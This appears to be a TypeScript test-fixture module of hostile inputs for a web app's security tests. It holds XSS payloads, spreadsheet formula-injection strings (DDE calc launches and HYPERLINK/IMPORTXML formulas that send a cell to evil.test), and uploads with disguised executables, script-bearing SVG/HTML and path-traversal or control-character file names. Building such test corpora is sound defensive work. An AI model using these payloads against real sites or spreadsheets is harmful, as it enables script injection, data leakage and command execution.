/**
 * Hostile input for the security suites (issue 9), as data a reviewer can read in one place:
 * - XSS_CORPUS: text that would run script if a page put it into its markup unescaped;
 * - FORMULA_CORPUS: text a spreadsheet would evaluate if an export wrote it as it is;
 * - the upload cases: files and file names the upload endpoints must refuse or clean.
 */

/**
 * What an XSS payload does when it runs: it opens a dialog (`alert(1)`) or sets `window.__xss`, so
 * a test sees execution whether the payload landed in the page, in a frame or in a handler.
 */
export const XSS_MARKER = '__xss';

export interface XssPayload {
  /** What the test calls it. */
  name: string;
  /** What an attacker types into a field. */
  text: string;
}

/**
 * Each payload is short enough for a name field (at most 100 characters). Wherever text is expected,
 * every one of them must be shown as the text that was typed, and none may run.
 */
export const XSS_CORPUS: readonly XssPayload[] = [
  { name: 'script element', text: '<script>alert(1)</script>' },
  { name: 'script element in mixed case', text: '<ScRiPt>window.__xss=1</sCrIpT>' },
  { name: 'img onerror', text: '<img src=x onerror=alert(1)>' },
  { name: 'img with slashes for spaces', text: '<img/src=x/onerror=alert(1)>' },
  { name: 'svg onload', text: '<svg onload=alert(1)>' },
  { name: 'script inside svg', text: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg animate onbegin', text: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  { name: 'breaking out of a double-quoted attribute', text: '"><script>alert(1)</script>' },
  { name: 'breaking out of a single-quoted attribute', text: "'><img src=x onerror=alert(1)>" },
  { name: 'a handler inside a double-quoted attribute', text: '" autofocus onfocus="alert(1)' },
  { name: 'a handler inside a single-quoted attribute', text: "' autofocus onfocus='alert(1)" },
  { name: 'a handler after an unquoted attribute', text: 'x autofocus onfocus=alert(1)' },
  { name: 'javascript: link', text: '<a href="javascript:alert(1)">link</a>' },
  { name: 'javascript: link with an encoded tab', text: '<a href="jav&#x09;ascript:alert(1)">tab</a>' },
  { name: 'javascript: link in character references', text: '<a href="&#106;&#97;vascript:alert(1)">x</a>' },
  { name: 'a bare javascript: URL', text: 'javascript:alert(1)' },
  { name: 'a Markdown link to javascript:', text: '[click](javascript:alert(1))' },
  { name: 'data: URL link', text: '<a href="data:text/html,<script>alert(1)</script>">d</a>' },
  { name: 'iframe srcdoc', text: '<iframe srcdoc="<script>parent.__xss=1</script>">' },
  { name: 'CSS expression', text: '<div style="width:expression(alert(1))">css</div>' },
  {
    name: 'style element with a javascript: URL',
    text: '<style>*{background:url(javascript:alert(1))}</style>',
  },
  { name: 'details ontoggle', text: '<details open ontoggle=alert(1)>' },
  { name: 'input autofocus onfocus', text: '<input autofocus onfocus=alert(1)>' },
  { name: 'button formaction', text: '<button formaction=javascript:alert(1)>b</button>' },
  {
    name: 'form with a javascript: action',
    text: '<form action=javascript:alert(1)><button>go</button></form>',
  },
  { name: 'object with javascript: data', text: '<object data="javascript:alert(1)"></object>' },
  {
    name: 'meta refresh to javascript:',
    text: '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  },
  { name: 'base href', text: '<base href="javascript:alert(1)//">' },
  { name: 'closing a textarea', text: '</textarea><script>alert(1)</script>' },
  { name: 'closing the title', text: '</title><script>alert(1)</script>' },
  { name: 'closing a script block', text: '</script><script>alert(1)</script>' },
  { name: 'closing a style block', text: '</style><script>alert(1)</script>' },
  { name: 'noscript mutation', text: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'Liquid output', text: "{{ nonce }}{{ 'x' | append: 'y' }}" },
  { name: 'Liquid tags', text: '{% for i in (1..3) %}{{ i }}{% endfor %}' },
  { name: 'Liquid raw around a script', text: '{% raw %}<script>alert(1)</script>{% endraw %}' },
  { name: 'template expression reaching Function', text: "{{constructor.constructor('alert(1)')()}}" },
  { name: 'template literal', text: '`${alert(1)}`' },
  { name: 'full-width angle brackets', text: '＜script＞alert(1)＜/script＞' },
  { name: 'percent-encoded', text: '%3Cscript%3Ealert(1)%3C%2Fscript%3E' },
  { name: 'already HTML-escaped', text: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { name: 'JavaScript-escaped', text: '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e' },
  { name: 'UTF-7', text: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
  { name: 'zero-width joiner in the tag name', text: '<scr\u200dipt>alert(1)</scr\u200dipt>' },
];

/**
 * Text a spreadsheet (Excel, LibreOffice, Google Sheets) evaluates as a formula when a cell starts
 * with = + - @, a tab or a carriage return, or their full-width forms (OWASP "CSV injection"); and
 * text that only looks like it (leading spaces, a quote first), which must come through as text.
 */
export const FORMULA_CORPUS: readonly { name: string; text: string }[] = [
  { name: 'a sum', text: '=1+1' },
  { name: 'plus first', text: '+1+1' },
  { name: 'minus first', text: '-2+3' },
  { name: 'a negative number as text', text: '-1' },
  { name: 'at first', text: '@SUM(1)' },
  { name: 'DDE command', text: "=cmd|' /C calc'!A0" },
  { name: 'DDE command behind a plus', text: "+cmd|' /C calc'!A0" },
  { name: 'DDE command behind arithmetic', text: "=2+5+cmd|' /C calc'!A0" },
  { name: 'a hyperlink leaking a cell', text: '=HYPERLINK("https://evil.test/?d="&A2,"Click")' },
  { name: 'a web import', text: '=IMPORTXML(CONCAT("https://evil.test/?", A2), "//a")' },
  { name: 'tab first', text: '\t=1+1' },
  { name: 'carriage return first', text: '\r=1+1' },
  { name: 'full-width equals', text: '＝1+1' },
  { name: 'full-width plus', text: '＋1+1' },
  { name: 'full-width minus', text: '－1+1' },
  { name: 'full-width at', text: '＠SUM(1)' },
  { name: 'a new record smuggled in', text: '=1+1\r\n=2+2,"x"' },
  { name: 'a leading space', text: ' =1+1' },
  { name: 'leading spaces before at', text: '  @SUM(1)' },
  { name: 'a line break first', text: '\n=1+1' },
  { name: 'a quote first', text: '"=1+1' },
];

/** The characters a spreadsheet treats as the start of a formula (csv-stringify's `escape_formulas`). */
export const FORMULA_TRIGGER = /^[=+\-@\t\r＝＋－＠]/;

/** The gateway's limit for a portal logo (LOGO_MAX_BYTES): a header image, not a photo. */
export const LOGO_MAX_BYTES = 512 * 1024;

/** A valid 1×1 PNG: the harmless content of the cases that test a name, and the start of the ones that test a size. */
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000001000000010806000000' +
    '1f15c4890000000d4944415478da63f8ffff3f0005fe02fea7a6a0000000000049454e44ae426082',
  'hex',
);

/** A PNG of exactly `bytes` bytes (padding after its end, which image readers ignore). */
export const pngOfSize = (bytes: number) => Buffer.concat([PNG, Buffer.alloc(bytes - PNG.length)]);

const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510)]);
const html = Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>\n');
const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>\n',
);

export interface UploadCase {
  name: string;
  /** The file name exactly as the multipart header carries it (see `multipartBody`). */
  fileName: string;
  /** The file's bytes, given the endpoint's size limit. */
  content: (limitBytes: number) => Buffer;
}

/**
 * Files every upload endpoint refuses (4xx, a message, nothing stored), whatever it accepts otherwise:
 * `because` says what the refusal is about (the size, the type, a name that breaks the request).
 */
export const REFUSED_UPLOADS: readonly (UploadCase & { because: 'size' | 'type' | 'name' })[] = [
  {
    name: 'one byte over the size limit',
    fileName: 'big.png',
    content: (limit) => pngOfSize(limit + 1),
    because: 'size',
  },
  { name: 'a Windows executable', fileName: 'setup.exe', content: () => exe, because: 'type' },
  { name: 'an HTML page', fileName: 'page.html', content: () => html, because: 'type' },
  { name: 'an SVG image with script', fileName: 'logo.svg', content: () => svg, because: 'type' },
  { name: 'HTML named as a PNG', fileName: 'photo.png', content: () => html, because: 'type' },
  {
    name: 'a script named as a JPEG',
    fileName: 'photo.jpg',
    content: () => Buffer.from('<script>alert(1)</script>'),
    because: 'type',
  },
  { name: 'an SVG named as a PNG', fileName: 'image.png', content: () => svg, because: 'type' },
  { name: 'an executable named as a PDF', fileName: 'invoice.pdf', content: () => exe, because: 'type' },
  { name: 'an executable without an extension', fileName: 'invoice', content: () => exe, because: 'type' },
  { name: 'a PNG named as an HTML page', fileName: 'photo.html', content: () => PNG, because: 'type' },
  {
    name: 'a double extension ending in .exe',
    fileName: 'photo.png.exe',
    content: () => PNG,
    because: 'type',
  },
  // Control characters in a part's header make the multipart body malformed (browsers never send
  // NUL; they percent-encode CR and LF), so such a name is refused before anything is read.
  {
    name: 'an extension behind a NUL byte',
    fileName: 'photo.png\u0000.html',
    content: () => html,
    because: 'name',
  },
  {
    name: 'control characters in the name',
    fileName: 'in\u0007vo\u001bice\u007f.png',
    content: () => PNG,
    because: 'name',
  },
  {
    name: 'an extension reversed by a direction override',
    fileName: 'invoice\u202egnp.exe',
    content: () => exe,
    because: 'type',
  },
  { name: 'an HTML page with a trailing dot', fileName: 'page.html.', content: () => html, because: 'type' },
  {
    name: 'an HTML page behind a traversal name',
    fileName: '../../../../var/www/index.html',
    content: () => html,
    because: 'type',
  },
  {
    name: 'an empty file named as a PNG',
    fileName: 'empty.png',
    content: () => Buffer.alloc(0),
    because: 'type',
  },
];

/**
 * Harmless files under hostile names. The name is only metadata: the file is stored under a key the
 * server makes up, and the name kept is its last path segment without invisible characters, leading
 * or trailing dots or excess length. `kept` is the name the attachment must then have.
 */
export const RENAMED_UPLOADS: readonly (UploadCase & { kept: string })[] = [
  {
    name: 'a Unix traversal path',
    fileName: '../../../../../../tmp/hd-traversal-unix.png',
    content: () => PNG,
    kept: 'hd-traversal-unix.png',
  },
  {
    name: 'a Windows traversal path',
    fileName: '..\\..\\..\\..\\Windows\\Temp\\hd-traversal-windows.png',
    content: () => PNG,
    kept: 'hd-traversal-windows.png',
  },
  { name: 'an absolute path', fileName: '/etc/hd-absolute.png', content: () => PNG, kept: 'hd-absolute.png' },
  { name: 'a dot file', fileName: '..hd-hidden.png', content: () => PNG, kept: 'hd-hidden.png' },
  {
    name: 'invisible characters',
    fileName: 'in\u0085vo\u200eice\u2066.png',
    content: () => PNG,
    kept: 'invoice.png',
  },
  { name: 'trailing dots and spaces', fileName: 'photo.png. . ', content: () => PNG, kept: 'photo.png' },
  {
    name: 'a very long name',
    fileName: `${'a'.repeat(1_000)}.png`,
    content: () => PNG,
    kept: `${'a'.repeat(251)}.png`,
  },
];

/** Where the traversal names above would have put a file had the server used them as paths. */
export const TRAVERSAL_TARGETS = ['hd-traversal-unix.png', 'hd-traversal-windows.png', 'hd-absolute.png'];

/**
 * A multipart/form-data body written byte for byte, so that a file name reaches the server exactly
 * as the case gives it (FormData would percent-encode some characters, as browsers do).
 */
export function multipartBody(
  fields: Record<string, string>,
  files: { field: string; fileName: string; content: Buffer }[],
): { body: Buffer; contentType: string } {
  const boundary = `----hd-attack-${Math.random().toString(16).slice(2)}`;
  const parts: Buffer[] = [];
  for (const [name, value] of Object.entries(fields))
    parts.push(
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`),
    );
  for (const file of files)
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field}"; filename="${file.fileName}"\r\n` +
          'Content-Type: application/octet-stream\r\n\r\n',
      ),
      file.content,
      Buffer.from('\r\n'),
    );
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}
